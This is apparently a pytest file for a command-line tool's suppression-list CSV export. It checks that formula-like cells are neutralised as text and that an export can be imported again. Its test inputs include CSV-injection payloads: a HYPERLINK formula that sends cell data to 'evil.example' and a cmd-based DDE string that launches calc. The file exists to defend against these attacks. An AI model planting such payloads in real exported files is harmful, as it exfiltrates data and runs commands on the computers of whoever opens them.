"""What commands write for spreadsheets: a cell that would be run as a formula is text."""

import csv
import io
from pathlib import Path

import pytest

from tests.cli.conftest import Cli


@pytest.mark.parametrize(
    "reason",
    ["=1+1", '=HYPERLINK("http://evil.example?"&A1)', "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1"],
)
def test_an_exported_cell_that_a_spreadsheet_would_run_is_made_text(project: Path, cli: Cli, reason: str) -> None:
    cli("apply")
    cli("suppressions", "add", "ana@example.com", "--reason", reason)
    exported = cli("suppressions", "export").out
    header, row = csv.reader(io.StringIO(exported, newline=""))
    assert dict(zip(header, row, strict=True))["reason"] == f"'{reason}"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in (*header, *row))


def test_an_export_can_be_brought_in_again(project: Path, cli: Cli, tmp_path: Path) -> None:
    cli("apply")
    cli("suppressions", "add", "ana@example.com", "--reason", '=asked,\nand "asked"')
    (tmp_path / "list.csv").write_text(cli("suppressions", "export").out)
    cli("suppressions", "remove", "ana@example.com", "--yes")
    cli("suppressions", "check", "ana@example.com")
    assert "1 address added" in cli("suppressions", "import", tmp_path / "list.csv").out
    assert "asked" in cli("suppressions", "check", "ana@example.com", code=1).out
